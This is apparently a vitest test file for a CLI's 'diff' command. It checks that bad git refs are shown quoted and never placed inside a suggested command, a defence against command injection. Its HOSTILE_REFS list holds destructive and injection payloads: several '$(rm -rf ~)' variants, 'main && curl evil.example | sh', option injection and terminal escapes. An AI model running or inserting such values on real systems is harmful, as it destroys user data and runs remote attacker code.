import { execFile } from 'node:child_process';
import { resolve } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { diffProject, VersionError } from '../../src/lib/history/versions';
import { gitProject } from '../git-project';

const run = promisify(execFile);

/** The message `diff` gives for refs that are not commits. */
async function refusal(options: { base?: string; head?: string }): Promise<string> {
  const project = await gitProject();
  const error = await diffProject(project.dir, { ...options, today: '2026-11-25' }).catch((caught: unknown) => caught);
  expect(error).toBeInstanceOf(VersionError);
  return (error as VersionError).message;
}

/** Refs a user could be tricked into passing (a copied command, a CI variable from a fork's branch name). */
const HOSTILE_REFS = ['$(rm -rf ~)', '`rm -rf ~`', 'main; rm -rf ~', 'main && curl evil.example | sh', '--output=/tmp/pwned', "main'\"", 'main\u001b[2J', 'main\nrm -rf ~'];

describe('diff suggests a command only with a ref that is safe to paste', () => {
  it('names a plain ref in the command it suggests', async () => {
    expect(await refusal({ base: 'origin/nope' })).toBe(
      '`origin/nope` is not a commit in this repository. Check the spelling with `git log --oneline origin/nope`; a remote branch needs fetching first (in GitHub Actions, check out with `fetch-depth: 0`).',
    );
  });

  it.each(HOSTILE_REFS)('--base %j is shown quoted, never in a command', async (ref) => {
    const message = await refusal({ base: ref });
    expect(message.startsWith(`${JSON.stringify(ref)} is not a commit in this repository. Check the spelling with \`git branch --all\``)).toBe(true);
    expect(message).not.toMatch(/`git log --oneline [^`]/);
    expect(message).not.toMatch(/[\u0000-\u001f\u007f]/);
  });

  it.each(HOSTILE_REFS)('--head %j is shown quoted, never in a command', async (ref) => {
    const message = await refusal({ base: 'main', head: ref });
    expect(message.startsWith(`${JSON.stringify(ref)} is not a commit in this repository.`)).toBe(true);
    expect(message).not.toMatch(/`git log --oneline [^`]/);
    expect(message).not.toMatch(/[\u0000-\u001f\u007f]/);
  });

  it('the CLI, run as in the issue, prints no runnable ref', async () => {
    const project = await gitProject();
    const failed = await run(process.execPath, [resolve('node_modules/tsx/dist/cli.mjs'), resolve('src/cli/sendoff.ts'), 'diff', '--today', '2026-11-25', '--base', '$(rm -rf ~)'], {
      cwd: project.dir,
      env: { ...process.env, NO_COLOR: '1' },
    }).catch((error: unknown) => error as { code: number; stdout: string; stderr: string });
    expect(failed).toMatchObject({ code: 2, stdout: '' });
    expect((failed as { stderr: string }).stderr).toMatchInlineSnapshot(`
      "sendoff diff: "$(rm -rf ~)" is not a commit in this repository. Check the spelling with \`git branch --all\` and \`git log --oneline\`; a remote branch needs fetching first (in GitHub Actions, check out with \`fetch-depth: 0\`).
      "
    `);
  });
});
